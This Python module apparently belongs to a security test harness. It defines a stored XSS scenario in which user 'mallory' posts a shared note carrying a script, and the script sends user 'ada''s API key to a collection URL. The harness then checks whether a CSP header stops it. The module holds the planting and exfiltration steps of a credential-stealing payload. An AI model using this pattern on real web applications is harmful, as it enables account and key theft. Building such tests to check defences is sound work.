"""Stored XSS: a colleague's shared note carries a script, and the page shows notes through ``|safe``."""

from __future__ import annotations

from ..results import Outcome
from ..stage import Stage
from .base import Attack
from .scripts import steal_key, words, would_run


def in_browser(stage: Stage) -> Outcome:
    """Let ada open the note."""
    note = _plant(stage, steal_key(stage.loot_url("stored")))
    with stage.page("ada") as page:
        page.goto(f"{stage.url}/notes/{note}")
        found = stage.received("stored", page)
    return Outcome(found is not None, words(found), {"received": found, "note": note})


def over_http(stage: Stage) -> Outcome:
    """Read the page and its policy as a browser would."""
    code = steal_key(stage.loot_url("stored"))
    note = _plant(stage, code)
    runs = would_run(stage.client("ada").get(f"/notes/{note}"), code)
    proof = "The note's script is in the page and nothing stops it" if runs else "The policy does not let it run"
    return Outcome(runs, proof, {"note": note})


def _plant(stage: Stage, code: str) -> object:
    """Write the note with the app's own form, as mallory, and return its id."""
    body = f"See you at the canal! <script>{code}</script>"
    stage.client("mallory").post("/notes", {"title": "Lunch, again", "body": body, "shared": "on"})
    return stage.value("SELECT max(id) FROM notes WHERE body = ?", body)


ATTACK = Attack(
    slug="stored-script",
    title="Stored script",
    story="Mallory shares a note with a <script> in it; ada reads it, and her API key goes to mallory.",
    control="headers.csp",
    in_browser=in_browser,
    over_http=over_http,
)
